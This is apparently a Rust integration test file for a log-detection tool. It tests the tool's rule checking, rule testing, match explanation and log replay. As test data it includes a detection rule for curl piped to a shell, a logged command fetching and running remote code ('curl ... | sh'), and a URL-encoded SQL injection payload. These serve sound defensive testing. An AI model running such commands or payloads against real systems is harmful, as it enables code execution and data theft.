//! The rule tools as a detection engineer runs them: `qalqan-detector rules
//! check|test|explain` and `replay`, through the built binary, from the
//! repository root (where the shipped pipelines are found). Exit codes are
//! part of the contract: CI gates on `check --strict` and `test`.

use std::path::{Path, PathBuf};
use std::process::Output;

use qalqan_testkit::{cargo_bin, shared_data, workspace_root};

fn detector(args: &[&str]) -> Output {
    std::process::Command::new(cargo_bin("qalqan-detector"))
        .args(args)
        .current_dir(workspace_root())
        .output()
        .expect("qalqan-detector runs")
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A fresh directory holding the given files.
fn dir_with(files: &[(&str, &str)]) -> PathBuf {
    let dir = std::env::temp_dir().join(qalqan_testkit::unique("qalqan-rule-tools"));
    std::fs::create_dir_all(&dir).expect("temp dir");
    for (name, body) in files {
        std::fs::write(dir.join(name), body).expect("write file");
    }
    dir
}

const GOOD: &str = "title: curl piped to a shell\nid: 0b6c3f5e-1a2b-4c3d-8e9f-000000000001\n\
logsource: {product: linux, service: sudo}\n\
detection:\n  sel:\n    process.command_line|contains|all: [curl, '| sh']\n  condition: sel\nlevel: high\n";

const TYPO: &str = "title: typo in a modifier\nid: 0b6c3f5e-1a2b-4c3d-8e9f-000000000002\n\
logsource: {product: linux}\n\
detection:\n  sel:\n    message|containz: evil\n  condition: sel\n";

const LOOKAHEAD: &str = "title: needs look-ahead\nid: 0b6c3f5e-1a2b-4c3d-8e9f-000000000003\n\
logsource: {product: linux}\n\
detection:\n  sel:\n    message|re: 'pass(?!word)'\n  condition: sel\n";

fn path_str(p: &Path) -> &str {
    p.to_str().expect("temp paths are UTF-8")
}

#[test]
fn check_lists_every_rejection_and_fails_only_when_strict() {
    let dir = dir_with(&[
        ("good.yml", GOOD),
        ("typo.yml", TYPO),
        ("lookahead.yml", LOOKAHEAD),
    ]);
    let relaxed = detector(&["rules", "check", path_str(&dir)]);
    let out = text(&relaxed);
    assert!(relaxed.status.success(), "{out}");
    let reported = |file: &str| {
        out.lines()
            .find(|l| l.contains(file))
            .unwrap_or_else(|| panic!("{file} not reported:\n{out}"))
    };
    let typo = reported("typo.yml");
    assert!(
        typo.contains("0b6c3f5e-1a2b-4c3d-8e9f-000000000002") && typo.contains("containz"),
        "the rejection names the rule and the construct: {typo}"
    );
    let lookahead = reported("lookahead.yml");
    assert!(
        lookahead.contains("message|re") && lookahead.contains("backtracking"),
        "{lookahead}"
    );
    assert!(
        !out.contains("good.yml"),
        "the good rule is not rejected:\n{out}"
    );

    let strict = detector(&["rules", "check", "--strict", path_str(&dir)]);
    assert_eq!(strict.status.code(), Some(1), "{}", text(&strict));
    std::fs::remove_file(dir.join("typo.yml")).expect("rm");
    std::fs::remove_file(dir.join("lookahead.yml")).expect("rm");
    let clean = detector(&["rules", "check", "--strict", path_str(&dir)]);
    assert!(clean.status.success(), "{}", text(&clean));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn test_runs_rule_tests_and_fails_on_a_wrong_expectation_or_an_untested_rule() {
    let sudo = |cmd: &str| {
        format!("'Nov 27 10:00:00 srv1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND={cmd}'")
    };
    let passing = format!(
        "rule: 0b6c3f5e-1a2b-4c3d-8e9f-000000000001\nparser: {{year: 2026}}\nmatch:\n  - {}\nnomatch:\n  - {}\n",
        sudo("/bin/sh -c curl -s http://203.0.113.9/x | sh"),
        sudo("/usr/bin/curl -o /tmp/x https://example.org/x"),
    );
    let dir = dir_with(&[("good.yml", GOOD), ("good.tests.yml", &passing)]);
    let ok = detector(&["rules", "test", "--require-tests", path_str(&dir)]);
    let out = text(&ok);
    assert!(ok.status.success(), "{out}");
    assert!(out.contains("2 passed, 0 failed"), "{out}");

    // the benign command listed as a match: the test must fail and say which
    let wrong = format!(
        "rule: 0b6c3f5e-1a2b-4c3d-8e9f-000000000001\nparser: {{year: 2026}}\nmatch:\n  - {}\n",
        sudo("/usr/bin/curl -o /tmp/x https://example.org/x"),
    );
    std::fs::write(dir.join("good.tests.yml"), wrong).expect("write");
    let failing = detector(&["rules", "test", path_str(&dir)]);
    let out = text(&failing);
    assert_eq!(failing.status.code(), Some(1), "{out}");
    assert!(
        out.contains("FAIL") && out.contains("good.tests.yml"),
        "{out}"
    );

    // a rule without any test document
    std::fs::remove_file(dir.join("good.tests.yml")).expect("rm");
    let untested = detector(&["rules", "test", "--require-tests", path_str(&dir)]);
    let out = text(&untested);
    assert_eq!(untested.status.code(), Some(1), "{out}");
    assert!(
        out.contains("UNTESTED curl piped to a shell"),
        "names the untested rule: {out}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn explain_says_which_search_matched_and_whether_the_rule_fires() {
    let attack = r#"203.0.113.66 - - [27/Nov/2026:10:00:00 +0000] "GET /?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 200 1 "-" "x""#;
    let fired = detector(&[
        "rules", "explain", "--rule", "web_sqli", "--event", attack, "rules",
    ]);
    let out = text(&fired);
    assert!(fired.status.success(), "{out}");
    assert!(out.contains("search union_select [MATCH]"), "{out}");
    assert!(out.contains("rule FIRES"), "{out}");

    let benign = r#"203.0.113.66 - - [27/Nov/2026:10:00:00 +0000] "GET /search?q=union+station HTTP/1.1" 200 1 "-" "x""#;
    let quiet = detector(&[
        "rules", "explain", "--rule", "web_sqli", "--event", benign, "rules",
    ]);
    let out = text(&quiet);
    assert!(quiet.status.success(), "{out}");
    assert!(out.contains("search union_select [no"), "{out}");
    assert!(!out.contains("rule FIRES"), "{out}");

    let unknown = detector(&[
        "rules",
        "explain",
        "--rule",
        "no_such_rule",
        "--event",
        benign,
        "rules",
    ]);
    assert!(!unknown.status.success());
    assert!(
        text(&unknown).contains("no_such_rule"),
        "{}",
        text(&unknown)
    );
}

#[test]
fn replay_counts_what_the_rule_pack_finds_in_a_real_log() {
    let log = shared_data("loghub/OpenSSH_2k.log");
    let raw = std::fs::read_to_string(&log).expect("loghub sample");
    // Counted from the raw log, independently of the parsers and rules:
    // sshd writes one `Failed <method> for ...` line per failed attempt
    // and one `Accepted <method> for ...` line per login; a line rsyslog
    // folded (`message repeated 5 times: [ Failed ...]`) is one event.
    let attempt = |verb: &str| {
        raw.lines()
            .filter_map(|l| l.split_once("]: ").map(|(_, m)| m))
            .map(|m| match m.strip_prefix("message repeated ") {
                Some(rest) => rest.split_once(": [ ").map_or("", |(_, inner)| inner),
                None => m,
            })
            .filter(|m| m.starts_with(verb) && m.contains(" for "))
            .count()
    };
    let (failed, accepted) = (attempt("Failed "), attempt("Accepted "));
    assert!(failed > 100 && accepted > 0, "{failed} {accepted}");

    let run = detector(&["replay", "--year", "2015", path_str(&log)]);
    let out = text(&run);
    assert!(run.status.success(), "{out}");
    let count = |title: &str| -> usize {
        out.lines()
            .find(|l| l.trim_end().ends_with(title) && l.contains('['))
            .and_then(|l| l.split_whitespace().next()?.parse().ok())
            .unwrap_or(0)
    };
    assert_eq!(count("SSH login failed"), failed, "{out}");
    assert_eq!(count("SSH login accepted"), accepted, "{out}");
    assert!(
        out.contains(&format!("{} lines", raw.lines().count())),
        "{out}"
    );
}
